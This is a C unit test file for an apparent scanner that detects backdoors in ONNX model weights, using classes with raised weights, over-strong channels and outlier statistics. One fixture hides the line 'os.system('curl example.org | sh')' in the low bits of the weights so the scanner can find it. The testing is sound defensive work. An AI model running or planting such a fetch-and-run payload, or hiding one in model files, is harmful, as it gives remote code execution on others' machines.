/* Weights of which one class, or one channel, stands out; and the chance that one does. */
#include <math.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdlib.h>
#include <unistd.h>

#include <cmocka.h>

#include "nets/layers.h"
#include "onnx_maker.h"
#include "probe/backdoor.h"

extern const tut_attack tut_attack_backdoor_weights;

enum { CHANNELS = 12, SIDE = 4, CLASSES = 10, INNER = CHANNELS * SIDE * SIDE };

typedef struct made {
    size_t classes;
    int raised;       /* class whose weights are raised; -1: none */
    bool is_turned;   /* the last matrix stands inputs by outputs */
    int strong;       /* channel that normalisation makes forty times as strong; -1: none */
    bool has_no_last; /* ends in the convolution's channels */
    size_t spliced;   /* numbers of the last matrix that spell a text in their low bits */
    char path[64];
} made;

static void add_last(onnx_maker *m, const made *w)
{
    static float values[CLASSES * INNER];
    static const char text[] =
        "import os; os.system('curl example.org | sh') # and so on, and on. ";
    tut_buf attrs = TUT_BUF_INIT;
    for (size_t c = 0; c < w->classes; c++)
        for (size_t i = 0; i < INNER; i++) {
            float x = om_draw(m, -0.1f, 0.1f) + (c == (size_t)w->raised ? 0.05f : 0);
            values[w->is_turned ? i * w->classes + c : c * INNER + i] = x;
        }
    for (size_t i = 0; i < w->spliced; i++) {
        uint32_t bits = 0;
        memcpy(&bits, &values[i], sizeof(bits));
        bits = (bits & ~0xffu) | (uint8_t)text[i % (sizeof(text) - 1)];
        memcpy(&values[i], &bits, sizeof(bits));
    }
    const size_t dims[] = {w->is_turned ? INNER : w->classes, w->is_turned ? w->classes : INNER};
    om_floats(m, "last.weight", dims, 2, values);
    if (!w->is_turned)
        om_attr_int(&attrs, "transB", 1);
    om_node(m, "Gemm", "f last.weight", "y", &attrs);
    om_value(m, 12, "y", &w->classes, 1);
}

static tut_buf make(const made *w)
{
    onnx_maker m = {.graph = TUT_BUF_INIT, .seed = 5};
    tut_buf attrs = TUT_BUF_INIT;
    const size_t channels = CHANNELS, row = INNER;
    float scale[CHANNELS], ones[CHANNELS], zeros[CHANNELS] = {0};
    for (size_t c = 0; c < CHANNELS; c++) {
        scale[c] = c == (size_t)w->strong ? 40.0f : 1.0f;
        ones[c] = 1;
    }
    om_value(&m, 11, "x", (const size_t[]){2, SIDE, SIDE}, 3);
    om_random(&m, "w", (const size_t[]){CHANNELS, 2, 3, 3}, 4, -1, 1);
    om_floats(&m, "scale", &channels, 1, scale);
    om_floats(&m, "shift", &channels, 1, zeros);
    om_floats(&m, "mean", &channels, 1, zeros);
    om_floats(&m, "variance", &channels, 1, ones);
    om_attr_ints(&attrs, "pads", 4, (const int64_t[]){1, 1, 1, 1});
    om_node(&m, "Conv", "x w", "c", &attrs);
    om_node(&m, "BatchNormalization", "c scale shift mean variance", "n", NULL);
    om_node(&m, "Relu", "n", "r", NULL);
    om_node(&m, "Flatten", "r", "f", NULL);
    if (w->has_no_last)
        om_value(&m, 12, "f", &row, 1);
    else
        add_last(&m, w);
    return om_file(&m);
}

static tut_target *open_made(made *w, tut_allowance *allowance)
{
    tut_target *target = NULL;
    tut_error err = {.code = TUT_OK};
    tut_buf file = make(w);
    (void)strcpy(w->path, "/tmp/tutela-weights-XXXXXX.onnx");
    int fd = mkstemps(w->path, 5);
    assert_true(fd >= 0);
    assert_int_equal(write(fd, file.data, file.len), file.len);
    (void)close(fd);
    tut_buf_done(&file);
    const tut_target_wish wish = {.place = w->path, .allowance = allowance};
    if (!tut_is_ok(tut_target_open(&wish, &target, &err)))
        fail_msg("%s", err.text);
    return target;
}

/* The texts of the result live in p->arena. */
static void look(made w, tut_probe *p, tut_attack_result *ret)
{
    tut_allowance allowance = {.queries = 0};
    tut_error err = {.code = TUT_OK};
    tut_target *target = open_made(&w, &allowance);
    *p = (tut_probe){.target = target};
    *ret = (tut_attack_result){.metric = NULL};
    tut_status status = tut_attack_backdoor_weights.run(p, ret, &err);
    (void)unlink(w.path);
    if (!tut_is_ok(status))
        fail_msg("%s", err.text);
    assert_int_equal(allowance.queries, 0);
    tut_target_free(target);
}

static double measure_of(const tut_attack_result *r, const char *name)
{
    for (size_t i = 0; i < r->measure_count; i++)
        if (strcmp(r->measures[i].name, name) == 0)
            return r->measures[i].value;
    return NAN;
}

static void a_class_that_stands_out_is_told_whichever_way_the_matrix_stands(void **state)
{
    (void)state;
    for (int way = 0; way < 2; way++) {
        tut_probe p;
        tut_attack_result r;
        look((made){.classes = CLASSES, .raised = -1, .is_turned = way, .strong = -1}, &p, &r);
        assert_string_equal(r.metric, "weights_p");
        assert_true(r.decisive.value > 0.01);
        assert_float_equal(measure_of(&r, "scan_findings"), 0, 0);
        tut_arena_done(&p.arena);
        look((made){.classes = CLASSES, .raised = 6, .is_turned = way, .strong = -1}, &p, &r);
        assert_true(r.decisive.value < 1e-4);
        assert_float_equal(measure_of(&r, "easiest_class"), 6, 0);
        assert_non_null(strstr(r.exposed[0].text, "class 6"));
        tut_arena_done(&p.arena);
    }
}

static void a_channel_counts_with_its_normalisation(void **state)
{
    (void)state;
    tut_probe p;
    tut_attack_result r;
    look((made){.classes = CLASSES, .raised = -1, .strong = -1}, &p, &r);
    assert_true(measure_of(&r, "channel_deviations") < 5);
    tut_arena_done(&p.arena);
    look((made){.classes = CLASSES, .raised = -1, .strong = 7}, &p, &r);
    assert_true(measure_of(&r, "channel_deviations") > 50);
    tut_arena_done(&p.arena);
}

static void what_the_scanner_finds_in_the_weights_is_shown(void **state)
{
    (void)state;
    tut_probe p;
    tut_attack_result r;
    bool is_shown = false;
    look((made){.classes = CLASSES, .raised = -1, .strong = -1, .spliced = 1500}, &p, &r);
    assert_true(measure_of(&r, "scan_findings") >= 1);
    for (size_t i = 0; i < r.exposed_count; i++)
        is_shown |= strncmp(r.exposed[i].text, "data.hidden-payload: ", 21) == 0;
    assert_true(is_shown);
    tut_arena_done(&p.arena);
}

static void what_has_no_classes_to_compare_is_unmeasured(void **state)
{
    (void)state;
    tut_probe p;
    tut_attack_result r;
    look((made){.classes = CLASSES, .raised = -1, .strong = -1, .has_no_last = true}, &p, &r);
    assert_true(isnan(r.decisive.value));
    assert_non_null(strstr(r.reason, "no matrix of classes"));
    assert_false(isnan(measure_of(&r, "channel_deviations")));
    tut_arena_done(&p.arena);
    look((made){.classes = 3, .raised = -1, .strong = -1}, &p, &r);
    assert_true(isnan(r.decisive.value));
    assert_non_null(strstr(r.reason, "4 at least"));
    tut_arena_done(&p.arena);
}

static void a_file_that_was_changed_meanwhile_is_not_scanned_in_its_place(void **state)
{
    (void)state;
    tut_allowance allowance = {.queries = 0};
    tut_error err = {.code = TUT_OK};
    made w = {.classes = CLASSES, .raised = -1, .strong = -1};
    tut_target *target = open_made(&w, &allowance);
    tut_probe p = {.target = target};
    tut_attack_result r = {.metric = NULL};
    FILE *f = fopen(w.path, "ab");
    assert_non_null(f);
    assert_int_equal(fputc(0, f), 0);
    assert_int_equal(fclose(f), 0);
    tut_status status = tut_attack_backdoor_weights.run(&p, &r, &err);
    (void)unlink(w.path);
    assert_int_equal(status.code, TUT_IO);
    assert_non_null(strstr(err.text, "changed"));
    tut_arena_done(&p.arena);
    tut_target_free(target);
}

/* scipy.stats: n * t.sf(sqrt(n (n - 2) G^2 / ((n - 1)^2 - n G^2)), n - 2) */
static void the_chance_of_an_outlier_is_that_of_grubbs(void **state)
{
    (void)state;
    size_t at = 0;
    const double one[] = {2.1, 1.9, 2.0, 2.2, 1.8, 2.05, 3.0, 1.95}, same[] = {4, 4, 4, 4},
                 sole[] = {4, 4, 5, 4};
    assert_float_equal(tut_backdoor_outlier(one, 8, &at), 0.0016035101782164265, 1e-12);
    assert_int_equal(at, 6);
    assert_float_equal(tut_backdoor_outlier(same, 4, &at), 1, 0);
    assert_float_equal(tut_backdoor_outlier(sole, 4, &at), 0, 1e-15);
    assert_int_equal(at, 2);
    assert_true(isnan(tut_backdoor_outlier(one, 2, &at)));
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(a_class_that_stands_out_is_told_whichever_way_the_matrix_stands),
        cmocka_unit_test(a_channel_counts_with_its_normalisation),
        cmocka_unit_test(what_the_scanner_finds_in_the_weights_is_shown),
        cmocka_unit_test(what_has_no_classes_to_compare_is_unmeasured),
        cmocka_unit_test(a_file_that_was_changed_meanwhile_is_not_scanned_in_its_place),
        cmocka_unit_test(the_chance_of_an_outlier_is_that_of_grubbs),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
